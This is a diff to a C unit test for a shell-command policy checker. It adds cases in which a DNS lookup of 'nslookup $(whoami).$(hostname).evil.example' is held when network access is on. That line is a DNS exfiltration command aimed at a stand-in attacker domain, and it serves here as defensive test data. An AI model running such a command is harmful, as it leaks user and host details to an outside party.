@@ -357,6 +357,13 @@ static void test_default_ci_variables(void **state)
 		expect_in(p, &ctx, lines[i], POLICY_ALLOW, "default", NULL, NULL);
 	expect_in(p, &ctx, "sh \"$D\"/$F", POLICY_HOLD, "unresolved", NULL, NULL);
 	expect_in(p, &ctx, "sh $X \"x\"", POLICY_HOLD, "unresolved", NULL, NULL);
+	/* a name computed at run time goes out through DNS only with the network */
+	policy_ctx net = ctx;
+	net.network = true;
+	expect_in(p, &ctx, "nslookup $(whoami).$(hostname).evil.example", POLICY_ALLOW, "default", NULL, NULL);
+	expect_in(p, &net, "nslookup $(whoami).$(hostname).evil.example", POLICY_HOLD, "unresolved",
+		  "dns-lookup-computed-name", NULL);
+	expect_in(p, &net, "dig example.com", POLICY_ALLOW, "default", NULL, NULL);
 	policy_free(p);
 }
 
